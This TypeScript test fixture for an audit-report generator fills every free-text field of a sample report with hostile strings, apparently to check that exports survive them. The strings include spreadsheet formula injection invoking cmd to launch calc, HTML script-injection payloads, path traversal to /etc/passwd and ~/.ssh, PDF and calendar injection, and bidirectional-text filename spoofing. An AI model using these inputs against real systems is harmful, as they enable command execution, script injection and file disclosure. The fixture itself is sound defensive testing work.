import type { ActionId } from '#src/audit/ids.ts';
import type { Provider } from '#src/audit/provider.ts';
import type { FeedbackInput } from '#src/report/model/feedback-input.ts';
import { anAction } from './some-actions.ts';
import { bridge, someInput, southamptonAudit, southamptonCases } from './table-1-cases.ts';

/** What somebody could type to break a file, by what it would break. */
export const hostileWords = {
  'a formula': '=HYPERLINK("http://example.org/?"&A1,"more")',
  'other formulae': "@SUM(1+1)*cmd|' /C calc'!A0 +1-2\t=1\r\n-3 ＝4",
  'operators of a PDF': ') Tj ET EMC Q endstream endobj (\\) << /Type /Catalog >> % BMC ]]> 5 0 R',
  markup:
    '</style></title></script><img src=x onerror=alert(1)>"\'><a href=javascript:a()>&lt;b&gt; ]]>',
  'an address': 'javascript:alert(1) file:///etc/passwd \\\\host\\share {{1+1}} #{1+1}',
  'lines of a calendar':
    'Book\r\nEND:VEVENT\r\nBEGIN:VALARM\nTRIGGER:-PT1S\rATTACH;VALUE=URI:x;y,z\\',
  'marks that turn text round':
    'Left \u202egnp.exe\u202c \u2067back\u2069 \u200f\u061cend\u200b\ufeff',
  'control characters': 'a\u0000b\u0007c\u001bd\u007fe\u0085f\u2028g\u2029h',
  'half a character': 'before \ud800 between \udc00 after',
  'a folder': '../../../etc/passwd C:\\CON NUL.pdf ~/.ssh ./a/b',
  'a word without end': 'abcdefghij'.repeat(1000),
  'letters nobody has': '\u0378 and \u{1fae8} and \u{10ffff}',
} as const;

/**
 * The Bridge's report with these words in every place that somebody may write in, cut to what each place takes: longer names
 * and actions are refused where an audit is read.
 */
export function inputNaming(words: string): FeedbackInput {
  const plain = southamptonAudit();
  const upTo = (most: number) => words.slice(0, most);
  const audit = {
    ...plain,
    name: upTo(120),
    contact: upTo(120),
    groups: plain.groups.map((group) => ({ ...group, name: upTo(80), label: upTo(24) })),
    providers: plain.providers.map(
      (one): Provider => ({
        ...one,
        name: upTo(80),
        service: upTo(80),
        managerRole: upTo(80),
      }),
    ),
    team: plain.team.map((one) => ({ ...one, role: upTo(80) })),
  };
  const texts = {
    finding: upTo(500),
    owner: upTo(120),
    measure: upTo(500),
    evidence: upTo(1000),
    droppedReason: upTo(500),
    responseWhy: upTo(1000),
  };
  return someInput({
    audit,
    cases: southamptonCases(audit),
    provider: bridge,
    actions: [
      anAction(upTo(1000), { ...texts, id: 'action-1' as ActionId }),
      anAction(upTo(1000), {
        ...texts,
        id: 'action-2' as ActionId,
        status: 'dropped',
        response: 'disagree',
      }),
    ],
    text: { summary: [words], strengths: [words, words], concerns: [words], goodPractice: [words] },
  });
}
